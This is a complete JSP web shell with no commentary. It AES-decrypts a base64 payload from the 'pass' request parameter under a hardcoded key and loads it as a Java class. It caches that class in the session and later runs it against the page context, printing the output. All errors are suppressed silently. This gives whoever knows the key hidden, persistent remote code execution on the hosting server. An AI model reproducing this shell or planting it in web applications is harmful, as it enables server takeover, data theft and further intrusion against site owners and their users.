<%! String xc = "0123456789abcdef"; String pass = "pass";
class X extends ClassLoader { public X(ClassLoader z) { super(z); } public Class Q(byte[] cb) { return super.defineClass(cb, 0, cb.length); } }
public byte[] x(byte[] s, boolean m) {
  try { javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES");
        c.init(m ? 1 : 2, new javax.crypto.spec.SecretKeySpec(xc.getBytes(), "AES"));
        return c.doFinal(s); } catch (Exception e) { return null; } }
%>
<% try { byte[] data = java.util.Base64.getDecoder().decode(request.getParameter(pass));
  data = x(data, false);
  if (session.getAttribute("payload") == null) {
    session.setAttribute("payload", new X(this.getClass().getClassLoader()).Q(data));
  } else {
    request.setAttribute("parameters", data);
    Object f = ((Class) session.getAttribute("payload")).newInstance();
    f.equals(pageContext); out.print(f.toString());
  }
} catch (Exception e) { } %>
